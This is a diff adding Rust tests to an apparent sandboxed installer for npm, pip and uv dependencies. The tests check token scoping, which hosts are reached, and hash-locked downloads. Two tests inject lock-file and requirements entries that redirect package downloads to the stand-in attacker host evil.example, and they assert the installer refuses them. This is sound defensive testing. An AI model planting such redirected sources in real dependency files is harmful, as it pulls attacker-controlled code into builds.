@@ -45,7 +45,7 @@ impl Registry {
                 let head = String::from_utf8(head).unwrap();
                 let path = head.split(' ').nth(1).unwrap_or("").to_owned();
                 let page = pages.lock().unwrap().get(&path).cloned();
-                asked.lock().unwrap().push(path);
+                asked.lock().unwrap().push(head.clone());
                 let (status, body) =
                     page.map_or(("404 Not Found", Vec::new()), |body| ("200 OK", body));
                 let kind = if body.starts_with(b"<") {
@@ -73,6 +73,12 @@ impl Registry {
 
     fn asked(&self) -> usize {
         self.asked.lock().unwrap().len()
+    }
+
+    fn was_told(&self, header: &str) -> bool {
+        let asked = self.asked.lock().unwrap();
+        let lower = |head: &String| head.to_ascii_lowercase();
+        asked.iter().any(|head| lower(head).contains(header))
     }
 
     fn environment(&self, home: &Path) -> Vec<(OsString, OsString)> {
@@ -435,4 +441,166 @@ async fn a_cache_that_others_can_write_is_not_used() {
     fs::set_permissions(&root, fs::Permissions::from_mode(0o777)).unwrap();
     let found = place.install(&npm_base(&place, None)).await;
     assert!(matches!(found, Err(Error::NotOurs { .. })), "{found:?}");
+}
+
+fn with(
+    mut environment: Vec<(OsString, OsString)>,
+    more: &[(&str, &str)],
+) -> Vec<(OsString, OsString)> {
+    environment.retain(|(name, _)| more.iter().all(|(known, _)| name != known));
+    environment.extend(more.iter().map(|(name, value)| (name.into(), value.into())));
+    environment
+}
+
+#[tokio::test]
+async fn what_was_reached_is_recorded_and_a_token_reaches_its_registry() {
+    let place = Place::new();
+    let home = place.folder.path();
+    let registry = place.registry.address.strip_prefix("http:").unwrap();
+    let npmrc = format!("registry=${{REGISTRY}}/npm/\n{registry}/npm/:_authToken=${{NPM_TOKEN}}\n");
+    fs::write(home.join(".npmrc"), npmrc).unwrap();
+    let mut environment = with(
+        place.registry.environment(home),
+        &[
+            ("NPM_TOKEN", "open-sesame"),
+            ("REGISTRY", &place.registry.address),
+        ],
+    );
+    environment.retain(|(name, _)| name != "NPM_CONFIG_REGISTRY");
+    // npm itself is asked about its configuration without these variables: here it needs one.
+    environment.push((
+        "NPM_CONFIG_REGISTRY".into(),
+        format!("{}/npm/", place.registry.address).into(),
+    ));
+    let base = npm_base(&place, None);
+    let found = install(&base, &place.tools, &environment)
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(place.registry.was_told("authorization: bearer open-sesame"));
+    assert!(!place.registry.was_told("canary"));
+    let reached = found.reached();
+    assert_eq!(reached.len(), 1, "{reached:?}");
+    assert!(place.registry.address.ends_with(&reached[0].destination));
+    assert!(reached[0].bytes_down > 0);
+    // Nothing of what was given is left.
+    let left = fs::read_dir(place.tools.home().join("dependencies")).unwrap();
+    let left: Vec<_> = left.map(|entry| entry.unwrap().file_name()).collect();
+    assert_eq!(left.len(), 2, "{left:?}");
+    let files = fs::read_dir(found.folder().parent().unwrap()).unwrap();
+    assert_eq!(files.count(), 3);
+}
+
+#[tokio::test]
+async fn a_lock_file_does_not_lead_to_another_host() {
+    let place = Place::new();
+    let base = npm_base(&place, None);
+    let lock = String::from_utf8(base.file("package-lock.json").unwrap().bytes().to_vec()).unwrap();
+    let lock = lock.replace(
+        "\"integrity\"",
+        "\"resolved\":\"https://evil.example/tiny.tgz\",\"integrity\"",
+    );
+    let package = r#"{"name":"site","dependencies":{"tiny":"1.0.0"}}"#;
+    let changed = tree(&[
+        ("Pulumi.yaml", "name: site\nruntime: nodejs\n"),
+        ("package.json", package),
+        ("package-lock.json", &lock),
+    ]);
+    let error = place.install(&changed).await.unwrap_err();
+    assert!(error.to_string().contains("`evil.example:443`"), "{error}");
+    assert!(error.is_of_the_lock());
+    let python = tree(&[
+        ("Pulumi.yaml", "name: site\nruntime: python\n"),
+        (
+            "requirements.txt",
+            &format!(
+                "--index-url https://evil.example/simple\ntiny==1.0.0 --hash=sha256:{}\n",
+                Sha256::of(b"x")
+            ),
+        ),
+    ]);
+    let error = place.install(&python).await.unwrap_err();
+    assert!(error.to_string().contains("`evil.example:443`"), "{error}");
+}
+
+/// An index may keep its files elsewhere. Only for files that are locked does its word count.
+#[tokio::test]
+async fn the_index_names_the_host_of_locked_files() {
+    let (place, files) = (Place::new(), Registry::start());
+    let base = pip_base(&place, None);
+    let name = "tiny-1.0.0-py3-none-any.whl";
+    let page = |hash: Sha256| {
+        format!(
+            "<a href=\"{}/{name}#sha256={hash}\">{name}</a>",
+            files.address
+        )
+        .into_bytes()
+    };
+    files.put(&format!("/{name}"), wheel());
+    place
+        .registry
+        .put("/simple/tiny/", page(Sha256::of(b"other")));
+    let error = place.install(&base).await.unwrap_err();
+    // pip itself passes over a file with another hash, or asks for it in vain.
+    assert_eq!(files.asked(), 0, "{error}");
+    place
+        .registry
+        .put("/simple/tiny/", page(Sha256::of(&wheel())));
+    let found = place.install(&base).await.unwrap().unwrap();
+    assert!(found.folder().join("tiny.py").is_file() && files.asked() > 0);
+    assert_eq!(found.reached().len(), 2);
+}
+
+#[tokio::test]
+async fn a_folder_of_wheels_is_shown() {
+    let place = Place::new();
+    let folder = place.folder.path().join("wheels");
+    fs::create_dir(&folder).unwrap();
+    fs::write(folder.join("tiny-1.0.0-py3-none-any.whl"), wheel()).unwrap();
+    let more = [
+        ("PIP_FIND_LINKS", folder.to_str().unwrap()),
+        ("PIP_NO_INDEX", "1"),
+    ];
+    let environment = with(place.registry.environment(place.folder.path()), &more);
+    let base = pip_base(&place, None);
+    let found = install(&base, &place.tools, &environment)
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(found.folder().join("tiny.py").is_file());
+    assert_eq!((place.registry.asked(), found.reached().len()), (0, 0));
+}
+
+fn uv_base(place: &Place) -> Tree {
+    drop(pip_base(place, None));
+    let address = &place.registry.address;
+    let lock = format!(
+        "version = 1\nrevision = 3\nrequires-python = \">=3.9\"\n\n[[package]]\nname = \"site\"\nversion = \"0.1.0\"\nsource = {{ virtual = \".\" }}\ndependencies = [{{ name = \"tiny\" }}]\n\n[package.metadata]\nrequires-dist = [{{ name = \"tiny\" }}]\n\n[[package]]\nname = \"tiny\"\nversion = \"1.0.0\"\nsource = {{ registry = \"{address}/simple\" }}\nwheels = [{{ url = \"{address}/files/tiny-1.0.0-py3-none-any.whl\", hash = \"sha256:{}\" }}]\n",
+        Sha256::of(&wheel())
+    );
+    tree(&[
+        ("Pulumi.yaml", "name: site\nruntime: python\n"),
+        (
+            "pyproject.toml",
+            "[project]\nname = \"site\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tiny\"]\n",
+        ),
+        ("uv.lock", &lock),
+    ])
+}
+
+/// Without uv it is named; with it (`pip install uv`) its lock file is installed.
+#[tokio::test]
+async fn a_uv_lock_needs_uv_and_is_installed_by_pip() {
+    let place = Place::new();
+    let base = uv_base(&place);
+    let path = &place.tools.machine().path;
+    if !std::env::split_paths(path).any(|folder| folder.join("uv").is_file()) {
+        let error = place.install(&base).await.unwrap_err().to_string();
+        assert!(error.contains("`uv` is not on the search path"), "{error}");
+        eprintln!("skipped: there is no uv on this machine");
+        return;
+    }
+    let found = place.install(&base).await.unwrap().unwrap();
+    assert_eq!(found.kind(), Kind::Pip);
+    assert!(found.folder().join("tiny.py").is_file());
 }
